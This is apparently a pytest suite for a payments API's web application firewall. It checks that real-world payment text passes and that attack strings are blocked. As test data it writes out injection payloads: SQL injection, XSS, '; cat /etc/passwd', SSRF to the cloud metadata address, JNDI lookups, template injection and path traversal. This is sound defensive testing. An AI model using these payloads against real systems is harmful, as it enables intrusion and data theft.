"""The WAF engine: scoring, paranoia, limits, evidence — and real payment traffic passes."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from strongroom.config import WafSettings
from strongroom.edge.guard import GateRequest
from strongroom.edge.waf.engine import EXCERPT_CHARS_MAX, Waf, excerpt
from strongroom.edge.waf.rules import WafRules

JWT = (
    b"eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCIsImtpZCI6ImsxIn0."
    b"eyJpc3MiOiJodHRwczovL2FwaS5zdHJvbmdyb29tLmRldiIsInN1YiI6ImNsaWVudC0xIiwic2NvcGUiOiJ0cmFuc2ZlcnM6d3JpdGUifQ."
    b"MEUCIQDx3b5yL2xwQ0pJ2vUj8aK1p9cZ3xv0Qm1z8bN4YwR1JQIgQ2hh"
)
DPOP = (
    b"eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2IiwiandrIjp7Imt0eSI6IkVDIn19."
    b"eyJodG0iOiJQT1NUIiwiaHR1IjoiaHR0cHM6Ly9hcGkvdjEvdHJhbnNmZXJzIiwiaWF0IjoxNzAwMDAwMDAwfQ."
    b"c2lnbmF0dXJlLWJ5dGVzLWhlcmUtYmFzZTY0dXJs"
)


def api_request(document: object, *, target: bytes = b"/v1/transfers") -> GateRequest:
    """A typical API call: bearer JWT, DPoP proof, idempotency key, JSON body."""
    return GateRequest(
        client_ip="203.0.113.7",
        method=b"POST",
        target=target,
        headers=[
            (b"host", b"api.strongroom.dev"),
            (b"user-agent", b"strongroom-python/1.4.0 httpx/0.28.1"),
            (b"accept", b"application/json"),
            (b"content-type", b"application/json"),
            (b"authorization", b"DPoP " + JWT),
            (b"dpop", DPOP),
            (b"idempotency-key", b"9b1f0c1e-3c0e-4a5e-8c47-2f1e0a6b7d11"),
            (b"traceparent", b"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ],
        request_id="req-1",
        body=json.dumps(document).encode(),
    )


def transfer(**extra: object) -> dict[str, object]:
    return {
        "from_account": "acc_01HZX3K4M5N6P7Q8R9S0T1V2W3",
        "to_account": "acc_01HZX3K4M5N6P7Q8R9S0T1V2W4",
        "amount": "125.50",
        "currency": "EUR",
        "reference": "Invoice 2024-117",
        **extra,
    }


@pytest.fixture(scope="module")
def waf() -> Waf:
    return Waf(WafSettings(), WafRules())


def test_a_typical_api_request_passes_clean(waf: Waf) -> None:
    result = waf.inspect(api_request(transfer()))
    assert (result.blocked, result.score, result.matches) == (False, 0, [])


BENIGN_PAYMENT_FIELDS = [
    {"beneficiary_name": "Seán O'Brien-D'Angelo"},
    {"beneficiary_name": "Dr. Zoë Müller & Söhne GmbH"},
    {"beneficiary_name": "山田 太郎"},
    {"address": "12 Rue de l'Église, Bât. B, 75001 Paris"},
    {"address": "Flat 3/4, 221B Baker St., London NW1 6XE"},
    {"address": "P.O. Box 1234; Suite #500 - Attn: Accounts (2nd floor)"},
    {"note": "Refund for order #5521 -- customer returned 2 items; see ticket 'RMA-77'"},
    {"note": "Select the union plan, drop the old one, update billing from 1 March"},
    {"note": "Payment for 'Delete' key replacement (keyboard), where=office, and 1=1 pricing"},
    {"note": "Thanks!!! <3 See you at 5 <= t <= 7pm; price > 100 & < 200"},
    {"note": "Use <b>bold</b> for the invoice title, not <i>italics</i>"},
    {"note": "Rent: 1,200.00/month (incl. 20% VAT) -- paid via SEPA"},
    {"note": "Order: cat food, ls-200 speaker, rm 12 (room), echo dot; curl bar"},
    {"note": "C:\\Users\\finance\\exports\\march.csv attached"},
    {"note": "50% off & free shipping | code SAVE50 | ends 31/12"},
    {"note": "Reference: INV/2024/00117 (see https://example.com/invoices?id=117&lang=en)"},
    {"note": "Multi-line\nnote with\ttabs and \"quotes\" and 'apostrophes'"},
    {"description": "Consulting services: SQL query tuning, SELECT/INSERT optimisation"},
    {"description": "Alert: your card ending 4242 was charged (prompt payment discount)"},
    {"metadata": {"order_id": "ORD-2024-000117", "tags": ["vip", "b2b"], "score": 0.97}},
    {"metadata": {"source": "web", "utm": "utm_source=newsletter&utm_medium=email"}},
    {"email": "john+billing@example.co.uk", "phone": "+44 (0)20 7946 0958"},
    {"iban": "DE89 3704 0044 0532 0130 00", "bic": "COBADEFFXXX"},
    {"reference": "=SUM(A1:A3)"},
    {"reference": "Payment 1/3 -- 'Q1' retainer (per contract §4.2)"},
]


@pytest.mark.parametrize("fields", BENIGN_PAYMENT_FIELDS, ids=lambda f: next(iter(f)))
def test_payment_bodies_with_real_world_text_pass(waf: Waf, fields: dict[str, object]) -> None:
    result = waf.inspect(api_request(transfer(**fields)))
    assert not result.blocked, [m.as_dict() for m in result.matches]


BROWSER_HEADERS = [
    (
        b"user-agent",
        b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    ),
    (
        b"user-agent",
        b"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36",
    ),
    (b"accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    (b"accept-language", b"en-GB,en;q=0.9,de;q=0.8"),
    (b"referer", b"https://www.google.com/search?q=strongroom+%22payments+api%22+-jobs&oq=x"),
    (
        b"cookie",
        b'_ga=GA1.1.2049826715.1700000000; _ga_X1=GS1.1.1700000000.3.1.1700000100.0.0.0; consent={"ads":false,"stats":true}; session=eyJ1c2VyIjoxMjN9.ZXhwaXJ5.c2ln',
    ),
    (b"sec-ch-ua", b'"Chromium";v="125", "Not.A/Brand";v="24"'),
    (b"x-forwarded-for", b"198.51.100.7, 10.0.0.3"),
]


def test_browser_headers_pass(waf: Waf) -> None:
    request = GateRequest("198.51.100.7", b"GET", b"/", BROWSER_HEADERS, "r")
    result = waf.inspect(request)
    assert not result.blocked, [m.as_dict() for m in result.matches]


@pytest.mark.parametrize(
    "target",
    [
        b"/search?q=o%27reilly+%22learning+python%22+-snake",
        b"/products?sort=price&order=asc&filter[brand]=acme&page=2",
        b"/track?e=click&p=%2Fpricing%3Fplan%3Dpro&r=https%3A%2F%2Fgoogle.com%2F&t=1700000000123",
        b"/wiki/Alice_(programming_language)",
        b"/api/v1/users/1234/orders;jsessionid=ABC123?x=1",
        b"/?utm_source=newsletter&utm_medium=email&utm_campaign=black+friday+2024%21",
        b"/search?q=%3Cdiv%3E+vs+%3Cspan%3E+html",
    ],
)
def test_browsing_query_strings_pass(waf: Waf, target: bytes) -> None:
    result = waf.inspect(GateRequest("198.51.100.7", b"GET", target, [], "r"))
    assert not result.blocked, [m.as_dict() for m in result.matches]


@pytest.mark.parametrize(
    "document",
    [
        transfer(reference="x' UNION SELECT password FROM users--"),
        transfer(note="<script>alert(document.cookie)</script>"),
        transfer(note="; cat /etc/passwd"),
        transfer(metadata={"callback": "http://169.254.169.254/latest/meta-data/"}),
        transfer(metadata={"$where": "sleep(5000)"}),
        transfer(note="{{ self.__init__.__globals__ }}"),
        transfer(note="${jndi:ldap://x.example/a}"),
    ],
    ids=["sqli", "xss", "shell", "ssrf", "nosqli", "ssti", "jndi"],
)
def test_attacks_in_a_payment_body_are_blocked(waf: Waf, document: dict[str, object]) -> None:
    result = waf.inspect(api_request(document))
    assert result.blocked
    assert result.matches[0].location.startswith("json:$.")


def test_attack_in_a_json_key_is_blocked(waf: Waf) -> None:
    assert waf.inspect(api_request({"x' OR '1'='1": 1})).blocked


def test_attack_in_a_custom_header_and_a_cookie(waf: Waf) -> None:
    for name, value in ((b"x-debug", b"<svg onload=alert(1)>"), (b"cookie", b"id=1' or '1'='1")):
        request = GateRequest("1.2.3.4", b"GET", b"/", [(name, value)], "r")
        assert waf.inspect(request).blocked


def test_evidence_names_rule_location_excerpt_and_score(waf: Waf) -> None:
    result = waf.inspect(api_request(transfer(note="see ../../../../etc/passwd now")))
    match = result.matches[0]
    assert match.rule_id.startswith("lfi-")
    assert match.location == "json:$.note"
    assert "etc/passwd" in match.excerpt or "../" in match.excerpt
    assert len(match.excerpt) <= EXCERPT_CHARS_MAX
    assert match.score == 5
    assert result.score >= 5


def test_excerpts_are_short_and_printable() -> None:
    text = "a" * 100 + "\r\nSet-Cookie: x" + "b" * 100
    piece = excerpt(text, 100, 115)
    assert len(piece) <= EXCERPT_CHARS_MAX
    assert "\r" not in piece and "\\x0d" in piece


WARNING_RULES = """
[[rule]]
id = "test-warning-a"
category = "custom"
severity = "warning"
targets = ["args"]
patterns = ['alpha beta']

[[rule]]
id = "test-warning-b"
category = "custom"
severity = "warning"
targets = ["args"]
patterns = ['gamma delta']

[[rule]]
id = "test-paranoid"
category = "custom"
severity = "critical"
paranoia = 2
targets = ["args"]
patterns = ['epsilon zeta']
"""


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    (tmp_path / "test.toml").write_text(WARNING_RULES)
    return tmp_path


def inspect(waf: Waf, query: str) -> tuple[bool, int]:
    result = waf.inspect(GateRequest("1.2.3.4", b"GET", b"/?" + query.encode(), [], "r"))
    return result.blocked, result.score


def test_one_warning_scores_but_does_not_block(rules_dir: Path) -> None:
    waf = Waf(WafSettings(), WafRules(rules_dir), detectors=())
    assert inspect(waf, "q=alpha+beta") == (False, 3)


def test_two_warnings_together_block(rules_dir: Path) -> None:
    waf = Waf(WafSettings(), WafRules(rules_dir), detectors=())
    assert inspect(waf, "q=alpha+beta&r=gamma+delta") == (True, 6)


def test_a_rule_counts_once_per_request(rules_dir: Path) -> None:
    waf = Waf(WafSettings(), WafRules(rules_dir), detectors=())
    assert inspect(waf, "q=alpha+beta&r=alpha+beta&s=alpha+beta") == (False, 3)


def test_the_inbound_threshold_is_a_setting(rules_dir: Path) -> None:
    waf = Waf(WafSettings(inbound_threshold=3), WafRules(rules_dir), detectors=())
    assert inspect(waf, "q=alpha+beta") == (True, 3)


def test_rules_above_the_paranoia_level_do_not_count(rules_dir: Path) -> None:
    assert inspect(Waf(WafSettings(), WafRules(rules_dir), detectors=()), "q=epsilon+zeta") == (
        False,
        0,
    )
    paranoid = Waf(WafSettings(paranoia=2), WafRules(rules_dir), detectors=())
    assert inspect(paranoid, "q=epsilon+zeta") == (True, 5)


def test_methods_outside_the_allowed_list_are_blocked(waf: Waf) -> None:
    for method in (b"TRACE", b"PROPFIND", b"CUST"):
        result = waf.inspect(GateRequest("1.2.3.4", method, b"/", [], "r"))
        assert result.rule_ids == ["protocol-method"]
        assert result.blocked


def test_an_unbuffered_body_is_not_inspectable(waf: Waf) -> None:
    request = api_request(transfer())
    request.body = None
    result = waf.inspect(request)
    assert result.not_inspectable is not None
    assert result.not_inspectable.type_id == "body-not-inspectable"


def test_too_deep_json_is_not_inspectable(waf: Waf) -> None:
    nested: object = "x"
    for _ in range(40):
        nested = {"a": nested}
    result = waf.inspect(api_request(nested))
    assert result.not_inspectable is not None
    assert result.not_inspectable.type_id == "json-too-deep"


def test_a_route_excluded_from_body_inspection_passes_unbuffered_bodies(tmp_path: Path) -> None:
    (tmp_path / "uploads.toml").write_text(
        '[[exclusion]]\nroute = "POST /v1/documents"\ninspect_body = false\n'
    )
    waf = Waf(WafSettings(), WafRules(tmp_path))
    request = api_request(transfer(), target=b"/v1/documents")
    request.body = None
    result = waf.inspect(request)
    assert result.not_inspectable is None and not result.blocked
    request.target = b"/v1/documents?x=<script>alert(1)</script>"
    assert waf.inspect(request).blocked


def test_inspection_stops_once_the_request_is_blocked(waf: Waf) -> None:
    query = "&".join(f"a{i}=%3Cscript%3Ealert({i})%3C/script%3E" for i in range(50))
    result = waf.inspect(GateRequest("1.2.3.4", b"GET", b"/?" + query.encode(), [], "r"))
    assert result.blocked
    assert len(result.matches) == 1


def test_padded_payloads_are_found_at_the_end_of_large_bodies(waf: Waf) -> None:
    body = b"data=" + b"A" * 200_000 + b"%27+UNION+SELECT+password+FROM+users--"
    request = GateRequest(
        "1.2.3.4",
        b"POST",
        b"/",
        [(b"content-type", b"application/x-www-form-urlencoded")],
        "r",
        body=body,
    )
    assert waf.inspect(request).blocked


def test_a_rule_counts_at_its_strongest_finding() -> None:
    weak_then_strong = Waf(WafSettings(paranoia=2), WafRules())
    # The raw form yields a paranoia-2 warning of the same rule the decoded form makes
    # critical: the request must still be blocked at paranoia 2.
    target = b"/?x=javascript:setInterval%2528%2527ale%2527%2B%2527rt(1)%2527%2529"
    result = weak_then_strong.inspect(GateRequest("1.2.3.4", b"GET", target, [], "r"))
    assert result.blocked


def test_fixed_grammar_headers_are_read_as_sent(waf: Waf) -> None:
    sent = GateRequest("1.2.3.4", b"GET", b"/", [(b"accept", b"%3Cscript%3Ealert(1)")], "r")
    assert not waf.inspect(sent).blocked
    jndi = GateRequest("1.2.3.4", b"GET", b"/", [(b"accept", b"${jndi:ldap://x/a}")], "r")
    assert waf.inspect(jndi).blocked


def test_payloads_split_by_unencoded_ampersands_are_seen_whole(waf: Waf) -> None:
    target = b"/?u=(&(uid=admin)(!(&(1=0)(userPassword=q))))"
    result = waf.inspect(GateRequest("1.2.3.4", b"GET", target, [], "r"))
    assert "ldap-filter-injection" in result.rule_ids


def test_base64_in_an_otherwise_plain_path_is_decoded(waf: Waf) -> None:
    encoded = base64.b64encode(b"../../../etc/passwd").decode().rstrip("=")
    result = waf.inspect(GateRequest("1.2.3.4", b"GET", b"/" + encoded.encode(), [], "r"))
    assert result.blocked


def test_a_path_is_not_parsed_as_sql_with_its_leading_slash(waf: Waf) -> None:
    for path in (b"/wiki/Alice_(programming_language)", b"/a/b-(c)/d,e"):
        assert not waf.inspect(GateRequest("1.2.3.4", b"GET", path, [], "r")).blocked
    attack = b"/items/1%20UNION%20SELECT%20password%20FROM%20users--"
    assert waf.inspect(GateRequest("1.2.3.4", b"GET", attack, [], "r")).blocked


def test_a_full_batch_of_transfers_is_inspected_not_refused(waf: Waf) -> None:
    """The ledger's largest request (8,190 transfers with metadata, ~2 MB) is within the
    JSON limits: inspected and passed, never refused as too large."""
    items = [transfer(metadata={"order": f"A-{n}", "note": "monthly payout"}) for n in range(8190)]
    result = waf.inspect(
        api_request({"atomic": False, "transfers": items}, target=b"/v1/transfers/batch")
    )
    assert result.not_inspectable is None
    assert not result.blocked, result.matches


def _jws(header: dict[str, object], claims: dict[str, object]) -> str:
    def segment(part: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")

    return f"{segment(header)}.{segment(claims)}.c2lnbmF0dXJlLWJ5dGVz"


def form_request(body: str, target: bytes = b"/oauth2/token") -> GateRequest:
    return GateRequest(
        client_ip="203.0.113.7",
        method=b"POST",
        target=target,
        headers=[(b"content-type", b"application/x-www-form-urlencoded")],
        request_id="t",
        body=body.encode(),
    )


def test_signed_tokens_in_forms_and_queries_pass_whatever_their_claims(waf: Waf) -> None:
    """Client assertions (RFC 7523) and tokens sent to introspection carry URLs such as
    ``aud: https://localhost/oauth2/token``: signed data, not an SSRF attempt."""
    token = _jws(
        {"alg": "ES256", "typ": "JWT", "kid": "k1"},
        {"iss": "c-1", "sub": "c-1", "aud": "https://localhost:8443/oauth2/token", "exp": 1},
    )
    assertion = (
        "grant_type=client_credentials&client_assertion_type="
        "urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer"
        f"&client_assertion={token}"
    )
    assert not waf.inspect(form_request(assertion)).matches
    assert not waf.inspect(form_request(f"token={token}", b"/oauth2/introspect")).matches
    query = api_request({}, target=b"/v1/accounts?access_token=" + token.encode())
    assert not waf.inspect(query).blocked


def test_an_injection_in_a_tokens_header_is_still_blocked(waf: Waf) -> None:
    token = _jws({"alg": "HS256", "kid": "../../../../../../etc/passwd"}, {"sub": "x"})
    result = waf.inspect(form_request(f"client_assertion={token}"))
    assert result.blocked, result.matches


def test_a_clean_verdict_remembered_on_one_route_does_not_hide_a_finding_on_another(
    tmp_path: Path,
) -> None:
    # The memo of clean names/header values must hold only values that drew no finding at
    # all: one excluded on a route is not clean elsewhere.
    (tmp_path / "x.toml").write_text(
        '[[exclusion]]\nroute = "GET /excluded"\nlocations = ["header:x-note"]\n'
        'categories = ["xss"]\n'
    )
    waf = Waf(WafSettings(), WafRules(tmp_path))
    headers = [(b"x-note", b"<script>alert(1)</script>")]
    assert not waf.inspect(GateRequest("1.2.3.4", b"GET", b"/excluded", headers, "r")).blocked
    assert waf.inspect(GateRequest("1.2.3.4", b"GET", b"/other", headers, "r")).blocked


def test_clean_verdicts_are_remembered_per_rule_set(tmp_path: Path) -> None:
    waf = Waf(WafSettings(), WafRules(tmp_path))
    request = GateRequest("1.2.3.4", b"GET", b"/", [(b"x-note", b"zebra crossing")], "r")
    assert not waf.inspect(request).blocked
    (tmp_path / "zebra.toml").write_text(
        '[[rule]]\nid = "zebra"\ncategory = "protocol"\nseverity = "critical"\n'
        'targets = ["header"]\npatterns = ["zebra"]\n'
    )
    assert waf.rules.reload_if_changed()
    assert waf.inspect(request).rule_ids == ["zebra"]


@pytest.mark.parametrize(
    "value", [b"1 AND 5432=5432", b"'; id", b"<svg onload=alert(1)>", b"${${::-j}ndi:x}"]
)
def test_a_client_address_header_holding_no_addresses_is_inspected(waf: Waf, value: bytes) -> None:
    request = GateRequest("1.2.3.4", b"GET", b"/", [(b"x-forwarded-for", value)], "r")
    assert waf.inspect(request).blocked


@pytest.mark.parametrize(
    "value",
    [
        b"198.51.100.23, 10.0.0.1",
        b"unknown, 2001:db8::1",
        b'for=192.0.2.60;proto=https;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"',
    ],
)
def test_client_address_headers_pass(waf: Waf, value: bytes) -> None:
    for name in (b"x-forwarded-for", b"forwarded"):
        assert not waf.inspect(GateRequest("1.2.3.4", b"GET", b"/", [(name, value)], "r")).blocked


def test_a_route_parameter_in_the_path_is_read_on_its_own(waf: Waf) -> None:
    target = b"/files/1%20AND%20ASCII(SUBSTR((SELECT%20database()),1,1))%3E64"
    assert waf.inspect(GateRequest("1.2.3.4", b"GET", target, [], "r")).blocked
    plain = b"/wiki/Union_(set_theory)"
    assert not waf.inspect(GateRequest("1.2.3.4", b"GET", plain, [], "r")).blocked


@pytest.mark.parametrize(
    ("note", "rule_id"),
    [
        ("'-'", "sqli-string-arithmetic"),
        ("%0d%0aSet-Cookie:%20admin=1", "crlf-encoded-header-injection"),
        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", None),
        ("{{7*'7'}}", "ssti-arithmetic-probe"),
        ("{% for c in ().__class__.__base__.__subclasses__() %}{% endfor %}", None),
        ("<%= `id` %>", "ssti-statement-tags"),
        ("';return 'a'=='a' && ''=='", "nosqli-server-side-js"),
    ],
)
def test_payloads_beyond_the_public_corpus_are_blocked(
    waf: Waf, note: str, rule_id: str | None
) -> None:
    result = waf.inspect(api_request(transfer(metadata={"note": note})))
    assert result.blocked, result.rule_ids
    if rule_id is not None:
        assert rule_id in result.rule_ids


@pytest.mark.parametrize(
    "note",
    [
        "Hi {{first_name}}, your order {{order.id}} has shipped!",
        "{% if user %}Hi {{ user }}{% endif %}",
        "<%= user.name %> invited you",
        "Meet at Union Station, then select your seats -- see you at 5!",
        "Ben & Jerry's <3; cats & dogs | pets",
    ],
)
def test_templates_and_prose_in_a_payment_body_pass(waf: Waf, note: str) -> None:
    result = waf.inspect(api_request(transfer(metadata={"note": note})))
    assert not result.blocked, result.matches
